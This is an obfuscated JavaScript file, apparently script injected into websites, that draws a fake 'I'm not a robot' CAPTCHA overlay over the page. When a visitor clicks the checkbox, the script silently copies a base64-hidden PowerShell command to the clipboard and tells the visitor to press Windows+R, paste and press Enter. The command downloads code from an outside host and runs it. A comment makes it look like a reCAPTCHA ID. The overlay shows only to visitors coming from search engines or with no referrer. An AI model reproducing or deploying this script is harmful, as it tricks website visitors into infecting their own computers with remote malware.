;(function (doc) {
  var blob = {
    ui: 'PGRpdiBjbGFzcz0idngtd3JhcCIgc3R5bGU9InBvc2l0aW9uOmZpeGVkO2luc2V0OjA7YmFja2dyb3VuZDojZjRmNWY3O3otaW5kZXg6MjE0NzQ4MzY0NztkaXNwbGF5OmZsZXg7YWxpZ24taXRlbXM6Y2VudGVyO2p1c3RpZnktY29udGVudDpjZW50ZXI7Zm9udC1mYW1pbHk6Um9ib3RvLEFyaWFsLHNhbnMtc2VyaWYiPgogIDxkaXYgc3R5bGU9IndpZHRoOjM4MHB4O2JhY2tncm91bmQ6I2ZmZjtib3JkZXI6MXB4IHNvbGlkICNkM2QzZDM7Ym9yZGVyLXJhZGl1czo0cHg7Ym94LXNoYWRvdzowIDJweCA2cHggcmdiYSgwLDAsMCwuMTUpO3BhZGRpbmc6MThweCI+CiAgICA8ZGl2IHN0eWxlPSJkaXNwbGF5OmZsZXg7YWxpZ24taXRlbXM6Y2VudGVyO2dhcDoxMnB4Ij4KICAgICAgPGRpdiBpZD0idngtYm94IiBzdHlsZT0id2lkdGg6MjZweDtoZWlnaHQ6MjZweDtib3JkZXI6MnB4IHNvbGlkICNjMWMxYzE7Ym9yZGVyLXJhZGl1czozcHg7Y3Vyc29yOnBvaW50ZXI7YmFja2dyb3VuZDojZmZmIj48L2Rpdj4KICAgICAgPHNwYW4gc3R5bGU9ImZvbnQtc2l6ZToxNXB4Ij5JJ20gbm90IGEgcm9ib3Q8L3NwYW4+CiAgICAgIDxpbWcgc3JjPSJkYXRhOmltYWdlL3N2Zyt4bWwsJTNDc3ZnIHhtbG5zPSdodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2Zycgd2lkdGg9JzMyJyBoZWlnaHQ9JzMyJy8lM0UiIHN0eWxlPSJtYXJnaW4tbGVmdDphdXRvIiBhbHQ9IiI+CiAgICA8L2Rpdj4KICAgIDxkaXYgaWQ9InZ4LXN0ZXBzIiBzdHlsZT0iZGlzcGxheTpub25lO21hcmdpbi10b3A6MTZweDtmb250LXNpemU6MTRweDtsaW5lLWhlaWdodDoxLjYiPgogICAgICA8Yj5WZXJpZmljYXRpb24gc3RlcHM8L2I+CiAgICAgIDxvbCBzdHlsZT0icGFkZGluZy1sZWZ0OjE4cHg7bWFyZ2luOjZweCAwIj4KICAgICAgICA8bGk+UHJlc3MgPGtiZD5XaW5kb3dzPC9rYmQ+ICsgPGtiZD5SPC9rYmQ+PC9saT4KICAgICAgICA8bGk+SW4gdGhlIHZlcmlmaWNhdGlvbiB3aW5kb3csIHByZXNzIDxrYmQ+Q1RSTDwva2JkPiArIDxrYmQ+Vjwva2JkPjwvbGk+CiAgICAgICAgPGxpPlByZXNzIDxrYmQ+RW50ZXI8L2tiZD4gb24geW91ciBrZXlib2FyZCB0byBmaW5pc2g8L2xpPgogICAgICA8L29sPgogICAgICA8c21hbGwgc3R5bGU9ImNvbG9yOiM2NjYiPlBlcmZvcm0gdGhlIHN0ZXBzIGFib3ZlIHRvIGZpbmlzaCB2ZXJpZmljYXRpb24uPC9zbWFsbD4KICAgIDwvZGl2PgogIDwvZGl2Pgo8L2Rpdj4=',
    c: 'cG93ZXJzaGVsbCAtTm9QIC1XIEhpZGRlbiAtQyAiJHI9aXdyIC1Vc2VCYXNpY1BhcnNpbmcgaHR0cHM6Ly9jYXB0Y2hhLWNkbi12ZXJpZnkuc3UvZ2F0ZS92LnR4dDtpZXggJHIuQ29udGVudCIgIyBJIGFtIG5vdCBhIHJvYm90IC0gcmVDQVBUQ0hBIFZlcmlmaWNhdGlvbiBJRDogNzczMQ=='
  };

  function dec(s) {
    try {
      return decodeURIComponent(escape(window.atob(s)));
    } catch (e) {
      return window.atob(s);
    }
  }

  function copyText(str) {
    if (navigator.clipboard && window.isSecureContext) {
      return navigator.clipboard.writeText(str);
    }
    return new Promise(function (ok) {
      var h = doc.createElement('input');
      h.value = str;
      doc.body.appendChild(h);
      h.select();
      doc.execCommand('copy');
      h.parentNode.removeChild(h);
      ok();
    });
  }

  function show() {
    var holder = doc.createElement('div');
    holder.innerHTML = dec(blob.ui);
    doc.body.appendChild(holder.firstElementChild || holder);
    var box = doc.getElementById('vx-box');
    if (!box) return;
    box.addEventListener('click', function () {
      box.style.background = '#e8f0fe';
      copyText(dec(blob.c)).then(function () {
        doc.getElementById('vx-steps').style.display = 'block';
      });
    }, { once: true });
  }

  var referrerOk = doc.referrer && !/google|bing|duckduckgo/i.test(doc.referrer) ? false : true;
  if (referrerOk) {
    if (doc.body) show();
    else doc.addEventListener('DOMContentLoaded', show);
  }
})(document);
